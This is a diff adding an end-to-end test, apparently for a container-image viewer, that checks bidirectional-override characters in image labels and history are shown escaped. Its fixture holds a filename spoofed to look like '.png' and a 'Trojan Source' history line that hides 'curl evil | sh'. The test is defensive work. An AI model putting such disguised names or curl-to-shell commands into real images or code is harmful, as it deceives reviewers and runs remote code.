@@ -529,6 +529,50 @@ test('a dropped file whose name holds a bidirectional override is named spelled 
   await expect(banner).not.toContainText('\u202e');
 });
 
+test('bidirectional controls in a label and a history command are spelled out, the raw JSON too', async ({
+  page,
+  workDir,
+}) => {
+  // umoci writes them as given: a label whose value prints as "aexe.png", and a RUN whose hidden
+  // part prints backwards ("Trojan Source").
+  const layout = path.join(workDir, 'layout');
+  const root = path.join(workDir, 'root');
+  mkdirSync(root);
+  execFileSync('tar', ['-C', root, '-cf', path.join(workDir, 'layer.tar'), '.']);
+  execFileSync('umoci', ['init', '--layout', layout]);
+  execFileSync('umoci', ['new', '--image', `${layout}:x`]);
+  execFileSync('umoci', ['config', '--image', `${layout}:x`, '--config.label', 'download=a\u202egnp.exe']);
+  execFileSync('umoci', [
+    'raw',
+    'add-layer',
+    '--image',
+    `${layout}:x`,
+    '--history.created_by',
+    'RUN echo safe \u202e# ; curl evil | sh',
+    path.join(workDir, 'layer.tar'),
+  ]);
+  const archive = path.join(workDir, 'bidi.tar');
+  execFileSync('skopeo', ['copy', '-q', `oci:${layout}:x`, `docker-archive:${archive}:bidi:1`]);
+  await openFile(page, archive);
+  await waitForDone(page);
+
+  await page.getByTestId('tab-summary').click();
+  await expect(page.getByTestId('summary').locator('table.labels td')).toHaveText('a\\u202Egnp.exe');
+  await page.getByTestId('tab-history').click();
+  await expect(page.getByTestId('history').locator('.created-by code').last()).toHaveText(
+    'RUN echo safe \\u202E# ; curl evil | sh',
+  );
+  await page.getByTestId('tab-graph').click();
+  await page.locator('[data-testid="graph-node"][data-kind="config"]').click();
+  const raw = await page.getByTestId('raw-json').innerText();
+  expect(raw).toContain('a\\u202Egnp.exe');
+  expect(raw).not.toContain('\u202e');
+  // The escape is JSON's own: the text shown is the same document.
+  expect((JSON.parse(raw) as { config: { Labels: Record<string, string> } }).config.Labels.download).toBe(
+    'a\u202egnp.exe',
+  );
+});
+
 test('a tampered layer is reported as a digest mismatch', async ({ page }) => {
   const exp = expectedFor('tampered-layer.tar');
   const bad = exp.expectedLayerDigest;
